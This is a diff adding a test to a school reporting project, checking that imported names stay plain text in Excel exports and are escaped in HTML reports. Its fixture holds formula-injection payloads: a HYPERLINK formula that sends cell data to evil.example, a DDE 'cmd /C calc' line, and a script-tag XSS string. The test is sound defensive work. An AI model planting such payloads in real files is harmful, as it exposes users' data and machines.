@@ -623,6 +623,30 @@ def test_hostile_file_names_mapping_and_sheet(loaded: Warehouse, tmp_path: Path)
     assert wh.scalar("SELECT count(*) FROM items") == 2 * (1 + 4 + 2)  # E0, F0-3, M, X
 
 
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点此")', "=cmd|' /C calc'!A0", "+1+2",
+            "-2+3", "@SUM(A1:A9)")
+
+
+def test_imported_text_is_text_in_the_principals_exports() -> None:
+    """Names come from imported files (school, class, knowledge point …): in the Excel export
+    a name starting with = + - @ stays text, never a live formula (formula injection), and in
+    the HTML report markup is escaped."""
+    import io
+
+    import openpyxl
+
+    from dashboards.report import school_report_html, workbook
+
+    frame = pd.DataFrame({"class_name": [*FORMULAS, "<script>alert(1)</script>"],
+                          "n": range(len(FORMULAS) + 1)})
+    book = openpyxl.load_workbook(io.BytesIO(workbook({"班级": frame}, "zh")))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.value for c in cells if c.data_type == "f"]
+    assert {*FORMULAS, "<script>alert(1)</script>"} <= {c.value for c in cells}
+    page = school_report_html("报告", {"班级": frame}, "zh")
+    assert "<script>alert" not in page and "&lt;script&gt;" in page
+
+
 # ==============================================================================================
 # 4. Secrets
 # ==============================================================================================
